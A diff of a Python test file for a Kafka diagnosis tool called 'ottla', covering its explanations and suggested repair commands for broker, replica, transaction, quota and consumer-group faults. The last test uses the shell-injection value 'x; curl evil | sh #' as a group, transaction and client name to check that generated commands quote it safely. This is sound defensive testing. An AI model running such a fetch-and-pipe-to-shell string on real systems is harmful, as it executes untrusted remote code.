@@ -6,10 +6,12 @@ import shlex
 from dataclasses import replace
 from typing import Any
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from ottla.diagnosis.causes import end_transaction, throttling
+from ottla.diagnosis.causes import end_transaction
+from ottla.diagnosis.client_quotas import throttling
 from ottla.diagnosis.explain_broker import DutiesNow, explain_broker
 from ottla.diagnosis.explain_group import explain_group
 from ottla.diagnosis.explain_partition import explain_partition
@@ -25,10 +27,12 @@ from ottla.diagnosis.now import (
     MemberNow,
     PartitionNow,
     QuorumNow,
+    QuotaNow,
     Reach,
     ReplicaNow,
     TransactionNow,
 )
+from ottla.diagnosis.remedies import UNCLEAN
 from ottla.diagnosis.timeline import WORDS, in_words, story_of_partition, told
 from ottla.diagnosis.topics import merged
 from ottla.diagnosis.words import brokers, duration, listed
@@ -36,6 +40,15 @@ from ottla.diagnosis.words import brokers, duration, listed
 NOW = 1_800_000_000_000
 LOCAL = Commands("", "127.0.0.1:9092", local=True)
 REMOTE = Commands(" --bootstrap kafka:9092", "kafka:9092")
+MISLED = BrokerNow(
+    1,
+    "10.0.0.1:9092",
+    Reach.REFUSED,
+    False,
+    process=True,
+    listens_at="127.0.0.1:9092",
+    config="/d/server.properties",
+)
 WHOLE = PartitionNow("orders", 0, 1, 5, (1, 2, 3), (1, 2, 3), min_insync=2)
 
 
@@ -43,7 +56,7 @@ def cluster(**changes: BrokerNow) -> ClusterNow:
     """Three brokers that answer, except for those given as `_2=…`."""
     brokers = {id: BrokerNow(id, f"127.0.0.1:{9091 + id}") for id in (1, 2, 3)}
     brokers |= {int(name[1:]): broker for name, broker in changes.items()}
-    return ClusterNow(NOW, brokers, QuorumNow(1, (1, 2, 3)))
+    return ClusterNow(NOW, brokers, QuorumNow(1, (1, 2, 3)), alone={}, quotas=())
 
 
 def killed(id: int) -> BrokerNow:
@@ -97,11 +110,16 @@ def test_a_killed_leader_is_named_with_the_time_of_its_death_and_the_command_tha
         "Broker 1 does not run and was fenced 5.0 s ago: its address refuses connections.",
         "Broker 1 led it before; broker 2 took over 5.0 s ago.",
     )
+    assert explained.headline == (
+        "orders-0 works, but broker 1 does not run: broker 2 leads (epoch 6),"
+        " 2 of 3 replicas in sync (brokers 2 and 3)."
+    )
+    assert explained.earlier == "(1 earlier event left out: ottla events --since 1d)"
     assert commands_of(explained) == ["ottla nodes start 1"]
     lines = [line.text for line in explained.timeline]
     assert lines == [
         "broker 1 was fenced: its address refuses connections",
-        "broker 1 left the ISR because it was fenced (in sync: 2 and 3)",
+        "broker 1 left the ISR because it was fenced (in sync: brokers 2 and 3)",
         "broker 2 was elected leader after broker 1 (epoch 6); its log ended at offset 1234",
     ]
     assert "if one more replica fails" in explained.producers[0]
@@ -116,9 +134,19 @@ def test_a_remote_broker_has_no_command_that_starts_it() -> None:
 def test_too_few_in_sync_says_who_is_refused_and_what_a_lower_minimum_would_risk() -> None:
     now = replace(WHOLE, isr=(1,))
     explained = of_partition(now, cluster(_2=killed(2), _3=killed(3)))
-    assert "takes no records with acks=all" in explained.headline
+    assert (
+        "takes no records with acks=all, because broker 2 does not run and broker 3 does not run"
+        in (explained.headline)
+    )
+    assert "Broker 1 leads" in explained.headline
     assert "NOT_ENOUGH_REPLICAS" in explained.producers[0]
-    assert "ottla topics alter orders -c min.insync.replicas=1" in commands_of(explained)
+    assert commands_of(explained)[-2:] == [
+        "ottla topics alter orders -c min.insync.replicas=1",
+        "ottla topics alter orders --unset min.insync.replicas",
+    ]
+    own = replace(now, own_settings={"min.insync.replicas": "2"})
+    back = commands_of(of_partition(own, cluster(_2=killed(2), _3=killed(3))))[-1]
+    assert back == "ottla topics alter orders -c min.insync.replicas=2"
 
 
 def test_a_slow_follower_is_told_with_its_lag_then_and_now() -> None:
@@ -134,7 +162,7 @@ def test_a_slow_follower_is_told_with_its_lag_then_and_now() -> None:
     )
     explained = of_partition(now, cluster(), shrunk)
     (cause,) = explained.cause
-    assert "could not keep up with the leader, 700 records and 31.0 s behind" in cause
+    assert "with the leader, 700 records and 31.0 s behind at that moment" in cause
     assert "It is 500 records behind now" in cause
     assert "slows broker 3 down" in explained.steps[0].text
 
@@ -157,9 +185,16 @@ def test_an_offline_partition_waits_for_those_that_have_everything_and_names_the
 
 def test_without_a_majority_it_says_how_many_controllers_are_missing() -> None:
     known = replace(cluster(_2=killed(2), _3=killed(3)), quorum=QuorumNow(None, (1, 2, 3)))
-    explained = of_partition(WHOLE, known)
-    assert "1 of 3 controllers answer, 2 are needed for a majority" in explained.cause[0]
+    decided = happened(3_000, "election", leader=1, previous_leader=2)
+    explained = of_partition(WHOLE, known, decided, happened(1_000, "quota_exceeded"))
+    assert "1 of 3 controllers answers, 2 are needed for a majority" in explained.cause[0]
+    assert "the last decision of a controller was at 07:59:57.000, 3.0 s ago" in explained.cause[2]
     assert "get no acknowledgement" in explained.producers[0]
+    assert "acks=1 is no way out: such records are on broker 1 alone" in explained.producers[0]
+    assert "Since when is not known." in of_partition(WHOLE, known).cause
+    ended = {id: replace(killed(id), ended_ms=NOW - id * 1_000) for id in (2, 3)}
+    here = replace(known, brokers={**known.brokers, **ended})
+    assert "That is so for about 2.0 s." in of_partition(WHOLE, here, decided).cause
     led_elsewhere = of_partition(replace(WHOLE, leader=2), known)
     assert "no active controller to elect another" in led_elsewhere.headline
     assert led_elsewhere.consumers == ("cannot read.",)
@@ -168,41 +203,94 @@ def test_without_a_majority_it_says_how_many_controllers_are_missing() -> None:
 def test_a_leader_that_clients_cannot_reach_although_it_is_alive_advertises_a_wrong_address() -> (
     None
 ):
-    lost = BrokerNow(
-        1, "10.0.0.1:9092", Reach.REFUSED, False, process=True, listens_at="127.0.0.1:9092"
+    explained = of_partition(WHOLE, cluster(_1=MISLED))
+    assert "at 10.0.0.1:9092, which refuses connections, probably because advertised.listeners" in (
+        explained.headline
     )
-    explained = of_partition(WHOLE, cluster(_1=lost))
-    assert "10.0.0.1:9092 refuses connections" in explained.headline
-    assert "advertised.listeners of broker 1 is probably wrong" in " ".join(explained.cause)
-    assert "to 127.0.0.1:9092" in explained.steps[0].text
+    (step,) = explained.steps
+    assert "It listens at 127.0.0.1:9092, which only clients on this machine reach" in step.text
+    assert step.command == (
+        "${EDITOR:-vi} /d/server.properties && ottla nodes stop 1 && ottla nodes start 1"
+    ), "no restart without the edit"
+    elsewhere = of_partition(WHOLE, cluster(_1=replace(MISLED, config="")), commands=REMOTE)
+    assert not commands_of(elsewhere)
+
+
+def test_before_the_only_replica_in_sync_restarts_there_is_a_caution() -> None:
+    now = replace(WHOLE, isr=(1,), min_insync=1, unclean=False)
+    known = replace(cluster(_1=MISLED), alone={1: ("orders-0",)})
+    (step,) = of_partition(now, known).steps
+    assert "Caution: it is the only replica in sync of orders-0" in step.text
+    (unsure,) = of_partition(now, replace(known, alone=None)).steps
+    assert "is not known" in unsure.text
+    unclean = replace(now, unclean=True, own_settings={UNCLEAN: "true"})
+    explained = of_partition(unclean, known)
+    assert "First forbid unclean elections" in explained.steps[0].text
+    assert commands_of(explained)[0] == f"ottla topics alter orders -c {UNCLEAN}=false"
+    assert commands_of(explained)[2] == f"ottla topics alter orders -c {UNCLEAN}=true"
 
 
 def test_a_failed_disk_is_the_cause_and_not_the_slowness_that_follows() -> None:
     full = BrokerNow(2, "127.0.0.1:9093", directories=(DirectoryNow("/data", True, 100, 0),))
-    failure = happened(
-        3_000,
-        "log_dir_failure",
-        node=2,
-        directory="/data",
-        partitions=["orders-0"],
-        cause="No space left on device",
-    )
+    failure = disk_failure("[Errno 28] No space left on device")
     explained = of_partition(replace(WHOLE, isr=(1, 3)), cluster(_2=full), failure)
-    assert "lost its log directory /data 3.0 s ago (No space left on device)" in explained.cause[0]
-    assert "Make room on (or replace) the disk of /data" in explained.steps[0].text
+    assert "but broker 2 has a failed log directory" in explained.headline
+    assert "it failed 3.0 s ago ([Errno 28] No space left on device)" in explained.cause[0]
+    assert "Make room on the disk of /data" in explained.steps[0].text
     broker = explain_broker(
         full, DutiesNow(1, 0, ("orders-0",), ()), cluster(_2=full), [failure], LOCAL
     )
     assert "its log directory /data failed" in broker.headline
     assert "Its disk is full" in " ".join(broker.cause)
+    assert broker.steps == explained.steps
+
+
+def disk_failure(cause: str | None) -> Happened:
+    return happened(
+        3_000,
+        "log_dir_failure",
+        node=2,
+        directory="/data",
+        partitions=["orders-0"],
+        cause=cause,
+    )
+
+
+@pytest.mark.parametrize(
+    ("error", "advice"),
+    [
+        ("[Errno 28] No space left on device", "Make room"),
+        ("[Errno 5] Input/output error", "replace it if it is defective"),
+        ("[Errno 30] Read-only file system", "mount it writable"),
+        ("[Errno 27] File too large", "ulimit -f"),
+        ("[Errno 13] Permission denied", "the right to read and write /data"),
+        ("something else", "Find out why /data cannot be used"),
+        (None, "Find out why /data cannot be used"),
+    ],
+)
+def test_what_to_do_about_a_disk_follows_its_error(error: str | None, advice: str) -> None:
+    failed = BrokerNow(2, "h:1", directories=(DirectoryNow("/data", True, 100, 50),))
+    known = replace(cluster(_2=failed), alone={2: ("other-0",)})
+    repair, restart = of_partition(replace(WHOLE, isr=(1, 3)), known, disk_failure(error)).steps
+    assert advice in repair.text and "nodes" not in repair.command
+    assert ("Make room" in repair.text) == ("Errno 28" in (error or ""))
+    assert restart.text.startswith("Only then restart broker 2")
+    assert "only replica in sync of other-0" in restart.text, "the restart takes that down"
+    assert restart.command == "ottla nodes stop 2 && ottla nodes start 2"
 
 
 def test_a_transaction_that_nobody_knows_hangs_and_one_that_is_known_ends_by_itself() -> None:
     hanging = TransactionNow(100, 4711, NOW - 60_000)
-    explained = of_partition(replace(WHOLE, transactions=(hanging,)), cluster())
-    assert "it hangs" in " ".join(explained.cause)
-    (command,) = commands_of(explained)
-    assert command == "ottla transactions abort --topic orders --partition 0 --start-offset 100"
+    offsets = {1: ReplicaNow(0, 150, 150)}
+    explained = of_partition(replace(WHOLE, transactions=(hanging,), offsets=offsets), cluster())
+    assert "A transaction that no coordinator knows has been open in orders-0" in explained.headline
+    assert "How many of the 50 records from there on are its own is not known" in explained.cause[0]
+    assert "all answered and had loaded" in explained.cause[1]
+    assert "cannot be undone" in explained.steps[1].text
+    assert commands_of(explained) == [
+        "ottla explain orders-0",
+        "ottla transactions abort --topic orders --partition 0 --start-offset 100",
+    ]
     known = replace(
         hanging, transactional_id="payments", started_ms=NOW - 60_000, timeout_ms=900_000
     )
@@ -211,15 +299,42 @@ def test_a_transaction_that_nobody_knows_hangs_and_one_that_is_known_ends_by_its
     assert commands_of(explained) == ["ottla transactions abort payments"]
 
 
+def test_no_abort_is_advised_while_a_coordinator_that_may_know_the_transaction_is_missing() -> None:
+    perhaps = TransactionNow(100, 4711, NOW - 60_000, asked_all=False)
+    explained = of_partition(replace(WHOLE, transactions=(perhaps,)), cluster())
+    assert "they may know it and end it" in " ".join(explained.cause)
+    assert commands_of(explained) == ["ottla explain orders-0"]
+
+
+def test_a_last_known_leader_may_lack_the_end_of_its_log() -> None:
+    alone = PartitionNow("orders", 0, 1, 2, (1,), (1,))
+    explained = of_partition(
+        alone,
+        cluster(),
+        happened(9_000, "offline", previous_leader=1),
+        happened(8_000, "election", leader=1, previous_leader=-1, how="last_known_leader", isr=[1]),
+    )
+    assert "The end of the log of orders-0 may be missing" in explained.headline and explained.ok
+    assert "After a crash of its process alone nothing is missing" in explained.cause[0]
+
+
 def test_a_young_transaction_is_no_trouble() -> None:
     young = TransactionNow(100, 1, NOW - 50, "payments", "Ongoing", NOW - 100, 60_000)
     assert of_partition(replace(WHOLE, transactions=(young,)), cluster()).ok
 
 
 def test_lost_records_are_counted_and_their_offsets_named() -> None:
-    explained = of_partition(
-        WHOLE,
-        cluster(),
+    keeper = BrokerNow(1, "h:1", kept_ms=7 * 24 * 3_600_000)
+    explained = of_partition(replace(WHOLE, min_insync=1), cluster(_1=keeper), *lost_records())
+    assert "orders-0 lost 50 records by an unclean election 9.0 s ago" in explained.headline
+    assert "which had been committed. Broker 1 kept a copy aside." in explained.headline
+    assert "(offsets 100 to 149)" in " ".join(explained.cause)
+    assert "It keeps a copy at most until 2027-01-22 07:59:58" in " ".join(explained.cause)
+    assert "has committed an offset beyond 100 may skip new records" in explained.consumers[0]
+
+
+def lost_records() -> list[Happened]:
+    return [
         happened(
             9_000, "election", leader=3, previous_leader=-1, leader_epoch=5, isr=[3], how="unclean"
         ),
@@ -232,19 +347,29 @@ def test_lost_records_are_counted_and_their_offsets_named() -> None:
             end_offset=150,
             leader=3,
             below_high_watermark=True,
+            kept="b8cd",
         ),
-    )
-    assert "50 records that had been committed were lost" in explained.headline
-    assert "(offsets 100 to 149)" in " ".join(explained.cause)
-    assert any(
-        "unclean.leader.election.enable=false" in command for command in commands_of(explained)
-    )
+    ]
+
+
+def test_min_insync_replicas_of_two_is_advised_only_where_three_replicas_are() -> None:
+    three = replace(WHOLE, min_insync=1)
+    assert commands_of(of_partition(three, cluster(), *lost_records()))[2:] == [
+        f"ottla topics alter orders -c {UNCLEAN}=false",
+        "ottla topics alter orders -c min.insync.replicas=2",
+    ]
+    two = replace(three, replicas=(1, 3), isr=(1, 3))
+    explained = of_partition(two, cluster(), *lost_records())
+    assert "With two replicas it would refuse acks=all" in explained.steps[-1].text
+    assert commands_of(explained)[-1] == "ottla topics reassign orders -p 0 --replicas 1,3,2"
+    safe = of_partition(replace(WHOLE, unclean=False), cluster(), *lost_records())
+    assert not any("alter" in command for command in commands_of(safe)), "set already"
 
 
 def test_a_move_is_held_up_by_the_broker_it_waits_for() -> None:
     now = replace(WHOLE, replicas=(1, 3, 2), isr=(1, 2), adding=(3,), removing=(2,), min_insync=1)
     dead = of_partition(now, cluster(_3=killed(3)))
-    assert "it is held up: broker 3 is not in sync yet" in dead.headline
+    assert "and it waits for broker 3, which cannot copy now" in dead.headline
     assert commands_of(dead) == [
         "ottla nodes start 3",
         "ottla topics reassign orders -p 0 --cancel",
@@ -252,11 +377,39 @@ def test_a_move_is_held_up_by_the_broker_it_waits_for() -> None:
     offsets = {1: ReplicaNow(0, 100, 100), 3: ReplicaNow(0, 40, 40)}
     copying = of_partition(replace(now, offsets=offsets), cluster())
     assert "copying goes on" in copying.headline and copying.ok
-    slow = BrokerNow(3, "127.0.0.1:9094", throttled_rate=1000)
-    throttled = of_partition(replace(now, offsets=offsets, throttled=(3,)), cluster(_3=slow))
-    assert (
-        "broker 3 lacks 60 records, and replication is throttled to 1000 B/s" in throttled.cause[0]
+
+
+def test_a_throttled_move_says_how_long_it_takes_and_warns_before_the_throttle_is_lifted() -> None:
+    replicas = "follower.replication.throttled.replicas"
+    now = replace(
+        WHOLE,
+        replicas=(1, 3, 2),
+        isr=(1, 2),
+        adding=(3,),
+        removing=(2,),
+        min_insync=1,
+        offsets={1: ReplicaNow(0, 100, 100), 3: ReplicaNow(0, 40, 40)},
+        throttled={"leader": (), "follower": (3,)},
+        own_settings={replicas: "*"},
     )
+    place = ("orders", 0)
+    leader = BrokerNow(1, "h:1", sizes={place: 70_000}, throttled_rates={"leader": 5})
+    slow = BrokerNow(3, "h:3", sizes={place: 10_000}, throttled_rates={"follower": 1000})
+    explained = of_partition(now, cluster(_1=leader, _3=slow))
+    assert "a throttle limits the copy to 1000 B/s, so it takes at least 60.0 s more" in (
+        explained.headline
+    )
+    assert "lacks 60 records (about 58.6 KiB)" in explained.cause[0]
+    assert "at broker 3 as follower" in explained.cause[0], "the leader's rate is not in use"
+    wait, faster, lift, cancel = explained.steps
+    assert wait.text.startswith("Wait, if the throttle is meant")
+    assert "--entity-name 3 --add-config follower.replication.throttled.rate=10000" in (
+        faster.command
+    )
+    assert "with 1000 sets it back" in faster.text
+    assert "Caution" in lift.text and f"ottla topics alter orders -c '{replicas}=*'" in lift.text
+    assert lift.command == f"ottla topics alter orders --unset {replicas}"
+    assert cancel.command.endswith("--cancel")
 
 
 def test_a_stopped_cluster_tells_its_last_state_and_how_to_start_it() -> None:
@@ -267,7 +420,7 @@ def test_a_stopped_cluster_tells_its_last_state_and_how_to_start_it() -> None:
         replace(WHOLE, isr=(1, 2)), stopped, happened(99, "isr_shrink", isr=[1, 2], brokers=[3])
     )
     assert explained.headline == (
-        "The cluster is stopped. When it stopped, broker 1 led it; 2 of 3 replicas in sync (1 and 2)."
+        "The cluster is stopped. When it stopped, broker 1 led it; 2 of 3 replicas in sync (brokers 1 and 2)."
     )
     assert commands_of(explained) == ["ottla up --detach"]
     assert explained.producers == ("cannot write.",)
@@ -289,7 +442,7 @@ def test_a_group_that_reads_is_healthy() -> None:
 
 
 def test_a_rebalance_names_the_member_that_holds_it_up() -> None:
-    late = {"member_id": "sleeper-1", "client_id": "sleeper", "heard_ms": NOW - 2_000}
+    late = {"member_id": "m", "client_id": "sleeper", "heard_ms": NOW - 2_000}
     hold_up = {
         "since_ms": NOW - 30_000,
         "waits_for": "JoinGroup",
@@ -297,9 +450,20 @@ def test_a_rebalance_names_the_member_that_holds_it_up() -> None:
         "rebalance_timeout_ms": 300_000,
     }
     explained = of_group(replace(GROUP, state="PreparingRebalance", hold_up=hold_up))
-    assert "for 30.0 s: it is held up by client sleeper" in explained.headline
-    assert "does not call poll()" in explained.steps[0].text
-    assert "without it after 5 min" in explained.steps[0].text
+    assert "for 30.0 s: it is held up by client sleeper (10.0.0.9)" in explained.headline
+    assert "That sends heartbeats, the last one 2.0 s ago" in " ".join(explained.cause)
+    assert "removed 5 min after the rebalance began" in " ".join(explained.cause)
+    assert "does not call poll()" in explained.steps[0].text and not commands_of(explained)
+    silent = {**hold_up, "late": [{**late, "heard_ms": NOW - 31_000}]}
+    explained = of_group(replace(GROUP, state="PreparingRebalance", hold_up=silent))
+    assert "has sent nothing since the rebalance began" in " ".join(explained.cause)
+    young = {**hold_up, "since_ms": NOW - 1_000}
+    explained = of_group(replace(GROUP, state="PreparingRebalance", hold_up=young))
+    assert "it waits for client sleeper (10.0.0.9), which has not sent its JoinGroup yet" in (
+        explained.headline
+    )
+    assert "That is not unusual yet" in " ".join(explained.cause)
+    assert commands_of(explained) == ["ottla explain --group billing"]
 
 
 def test_a_group_before_a_hanging_transaction_is_told_to_abort_it() -> None:
@@ -308,7 +472,7 @@ def test_a_group_before_a_hanging_transaction_is_told_to_abort_it() -> None:
     )
     explained = of_group(replace(GROUP, lags=(lag,)))
     assert "stands still in orders-0, at offset 100" in explained.headline
-    assert commands_of(explained)[0].startswith("ottla transactions abort --topic orders")
+    assert commands_of(explained)[1].startswith("ottla transactions abort --topic orders")
 
 
 def test_members_that_live_and_commit_nothing_are_the_application_s_fault() -> None:
@@ -351,15 +515,34 @@ def test_a_quota_is_told_with_who_what_and_how_much() -> None:
         )
         for ago in (3_000, 2_000, 1_000)
     ]
-    explained = explain_broker(BrokerNow(1, "h:1"), DutiesNow(3, 1, (), ()), cluster(), hits, LOCAL)
-    assert (
-        "throttles client importer, last 1.0 s ago: its quota producer_byte_rate is 1.0 KiB/s"
-        in (explained.headline)
+
+    def told_with(*quotas: QuotaNow) -> Explanation:
+        known = replace(cluster(), quotas=quotas)
+        return explain_broker(BrokerNow(1, "h:1"), DutiesNow(3, 1, (), ()), known, hits, LOCAL)
+
+    own = QuotaNow({"client-id": "importer"}, {"producer_byte_rate": 1024.0})
+    default = QuotaNow({"client-id": None}, {"producer_byte_rate": 1024.0})
+    explained = told_with(default, own)
+    assert explained.headline == (
+        "Broker 1 throttled client importer for 900 ms, 1.0 s ago: it was above its quota"
+        " producer_byte_rate=1024 (1.0 KiB/s)."
     )
-    assert "4.0 KiB/s" in explained.cause[0]
+    assert "4.0 KiB/s" in explained.cause[0] and "right now is not known" in explained.cause[0]
+    assert explained.cause[1] == "The quota is set for client-id importer."
     (line,) = explained.timeline
     assert line.text.endswith("(3 times until 07:59:59.000)")
-    assert "--entity-name importer" in explained.steps[0].command
+    leave, less, higher, none = explained.steps
+    assert "leave it" in leave.text and "send less" in less.text
+    assert "--entity-name importer --add-config producer_byte_rate=2048" in higher.command
+    assert "--delete-config" in none.command
+    shared = told_with(default)
+    assert "--entity-type clients --entity-default" in shared.steps[2].command
+    assert "for everyone who has no quota of their own" in shared.steps[2].text
+    users = QuotaNow({"user": None}, {"producer_byte_rate": 512.0})
+    assert "--entity-type users --entity-default" in told_with(own, users).steps[2].command
+    assert "; it is 512 B/s now" in told_with(own, users).cause[1]
+    assert told_with().cause[1] == "The quota is no longer set."
+    assert not commands_of(told_with())
 
 
 def test_a_fenced_broker_that_answers_is_told_apart_from_one_that_is_gone() -> None:
@@ -371,7 +554,8 @@ def test_a_fenced_broker_that_answers_is_told_apart_from_one_that_is_gone() -> N
     assert "does not run, and the controller has fenced it" in gone.headline
     silent = BrokerNow(2, "h:1", Reach.SILENT, True)
     paused = explain_broker(silent, duties, cluster(_2=silent), [], LOCAL)
-    assert "SIGCONT" in paused.steps[0].text
+    assert "kill -CONT" in paused.steps[0].text and "network" in paused.steps[0].text
+    assert paused.steps[1].command == "ottla nodes kill 2 && ottla nodes start 2"
 
 
 def test_the_partitions_of_a_topic_that_share_their_trouble_are_told_once() -> None:
@@ -408,7 +592,7 @@ def test_what_one_failure_did_to_many_partitions_is_one_line() -> None:
     ]
     from ottla.diagnosis.timeline import Story
 
-    lines, _ = told(Story(events, 0), NOW)
+    lines, _ = told(Story(events, 0), NOW, "ottla events")
     assert [line.text for line in lines] == [
         "broker 2 left the ISR of 50 partitions (orders-0, orders-1 and orders-2 …) because it was fenced",
         "50 partitions (orders-0, orders-1 and orders-2 …), which broker 2 had led, got other leaders",
@@ -462,10 +646,15 @@ def test_a_name_that_a_client_chose_adds_no_line_to_an_explanation() -> None:
 
 def test_names_in_advice_are_quoted_for_the_shell() -> None:
     evil = "x; curl evil | sh #"
-    (command,) = set(commands_of(of_group(replace(GROUP, id=evil, state="Empty", members=()))))
-    assert shlex.split(command) == ["ottla", "groups", "describe", evil]
+    held_up = replace(GROUP, id=evil, state="PreparingRebalance", hold_up=None)
+    (command,) = set(commands_of(of_group(held_up)))
+    assert shlex.split(command) == ["ottla", "explain", "--group", evil]
     owned = TransactionNow(400, 7, NOW, transactional_id=evil)
-    assert shlex.split(end_transaction(owned, "orders", 0, REMOTE).command)[3] == evil
+    (abort,) = end_transaction(owned, "orders", 0, REMOTE)
+    assert shlex.split(abort.command)[3] == evil
     fields = {"client_id": evil, "quota": "producer_byte_rate", "limit": 1.0, "throttle_ms": 1}
-    for step in throttling([happened(1_000, "quota_exceeded", **fields)], NOW, LOCAL).steps:
-        assert evil in shlex.split(step.command)
+    quota = QuotaNow({"client-id": evil}, {"producer_byte_rate": 1.0})
+    hits = [happened(1_000, "quota_exceeded", **fields)]
+    found = throttling(hits, replace(cluster(), quotas=(quota,)), LOCAL)
+    commands = [step.command for step in found.steps if step.command]
+    assert commands and all(evil in shlex.split(command) for command in commands)
